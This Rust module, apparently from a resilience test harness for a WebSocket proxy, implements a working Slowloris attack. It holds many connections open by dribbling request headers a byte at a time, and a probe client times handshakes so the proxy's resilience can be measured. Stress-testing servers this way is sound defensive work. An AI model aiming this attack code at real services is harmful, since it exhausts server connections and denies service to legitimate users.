//! Slowloris: many connections that send a request head a byte at a time and
//! never finish it; and the probe, one normal client timing handshakes.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicI64, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use hdrhistogram::Histogram;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{sleep, timeout, Instant};

use crate::client::{tcp_connect, WsClient};
use crate::ws::{self, XorShift};

/// Counters of the attack.
#[derive(Debug, Default)]
pub struct AttackStats {
    /// Connections opened.
    pub opened: AtomicU64,
    /// Connections open now.
    pub open: AtomicI64,
    /// Connections the proxy closed (each is reopened).
    pub closed_by_proxy: AtomicU64,
    /// The longest a connection was held before the proxy closed it, in ms.
    pub longest_held_ms: AtomicU64,
    /// Connects that failed.
    pub connect_failures: AtomicU64,
}

/// A running attack.
pub struct Attack {
    /// Its counters.
    pub stats: Arc<AttackStats>,
    stop: Arc<AtomicBool>,
    tasks: Vec<tokio::task::JoinHandle<()>>,
}

impl Attack {
    /// Opens `count` connections to `addr` (500 per second) that each send one
    /// header byte every `byte_interval` (jittered), reopening when closed.
    pub fn start(addr: SocketAddr, count: usize, byte_interval: Duration) -> Attack {
        let stats = Arc::new(AttackStats::default());
        let stop = Arc::new(AtomicBool::new(false));
        let tasks = (0..count)
            .map(|i| {
                let stats = Arc::clone(&stats);
                let stop = Arc::clone(&stop);
                tokio::spawn(async move {
                    sleep(Duration::from_millis(i as u64 * 2)).await;
                    let mut rng = XorShift::from_time(i as u64 + 7);
                    while !stop.load(Ordering::Relaxed) {
                        one_connection(addr, i, byte_interval, &mut rng, &stats, &stop).await;
                    }
                })
            })
            .collect();
        Attack { stats, stop, tasks }
    }

    /// Stops and closes every connection.
    pub async fn stop(self) {
        self.stop.store(true, Ordering::Relaxed);
        for t in self.tasks {
            t.abort();
            let _ = t.await;
        }
    }
}

async fn one_connection(
    addr: SocketAddr,
    i: usize,
    byte_interval: Duration,
    rng: &mut XorShift,
    stats: &AttackStats,
    stop: &AtomicBool,
) {
    let Ok(mut stream) = tcp_connect(addr, None).await else {
        stats.connect_failures.fetch_add(1, Ordering::Relaxed);
        sleep(Duration::from_millis(200)).await;
        return;
    };
    stats.opened.fetch_add(1, Ordering::Relaxed);
    stats.open.fetch_add(1, Ordering::Relaxed);
    let opened = Instant::now();
    let head = format!("GET /slow/{i} HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\nX-Slow: ");
    let mut pos = 0usize;
    let mut buf = [0u8; 512];
    loop {
        if stop.load(Ordering::Relaxed) {
            break;
        }
        let wait = byte_interval.mul_f64(0.5 + (rng.next_u64() % 1000) as f64 / 1000.0);
        // One byte at a time: the request line and headers, then an endless header value.
        let byte: &[u8] = if pos < head.len() {
            &head.as_bytes()[pos..pos + 1]
        } else {
            b"a"
        };
        pos += 1;
        if stream.write_all(byte).await.is_err() {
            break;
        }
        match timeout(wait, stream.read(&mut buf)).await {
            Err(_) => continue,
            // An answer (408, 400) or the end: the proxy closed it.
            Ok(_) => break,
        }
    }
    stats.open.fetch_sub(1, Ordering::Relaxed);
    if !stop.load(Ordering::Relaxed) {
        stats.closed_by_proxy.fetch_add(1, Ordering::Relaxed);
        stats
            .longest_held_ms
            .fetch_max(opened.elapsed().as_millis() as u64, Ordering::Relaxed);
    }
}

/// What the probe measured.
#[derive(Debug)]
pub struct ProbeResult {
    /// Handshake cycles completed.
    pub ok: u64,
    /// Cycles that failed.
    pub failed: u64,
    /// First failure, if any.
    pub first_error: Option<String>,
    /// Cycle times in µs.
    pub hist: Histogram<u64>,
}

impl ProbeResult {
    /// A quantile in milliseconds.
    pub fn ms(&self, q: f64) -> f64 {
        if self.hist.is_empty() {
            return f64::NAN;
        }
        self.hist.value_at_quantile(q) as f64 / 1000.0
    }
}

/// One client, for `duration`: every `pause`, connect, WebSocket handshake,
/// one 64-byte message and its echo, close. Times each cycle.
pub async fn probe(addr: SocketAddr, duration: Duration, pause: Duration) -> ProbeResult {
    let mut hist = Histogram::new_with_bounds(1, 60_000_000, 3).expect("valid histogram bounds");
    let (mut ok, mut failed, mut first_error) = (0, 0, None);
    let end = Instant::now() + duration;
    let mut rng = XorShift::from_time(99);
    while Instant::now() < end {
        let start = Instant::now();
        let cycle = async {
            let mut c = WsClient::connect(addr, "/probe", None, rng.clone()).await?;
            c.send_frame(ws::OP_BINARY, &[7u8; 64]).await?;
            let h = c.read_frame().await?;
            if h.opcode != ws::OP_BINARY || c.payload(&h) != [7u8; 64] {
                return Err(std::io::Error::other("wrong echo"));
            }
            c.consume(&h);
            Ok::<_, std::io::Error>(c)
        };
        match timeout(Duration::from_secs(10), cycle).await {
            Ok(Ok(c)) => {
                hist.saturating_record(start.elapsed().as_micros() as u64);
                ok += 1;
                let _ = timeout(Duration::from_secs(2), c.close()).await;
            }
            Ok(Err(e)) => {
                failed += 1;
                first_error.get_or_insert(e.to_string());
            }
            Err(_) => {
                failed += 1;
                first_error.get_or_insert("no answer within 10 s".to_owned());
            }
        }
        rng.next_u64();
        sleep(pause).await;
    }
    ProbeResult {
        ok,
        failed,
        first_error,
        hist,
    }
}
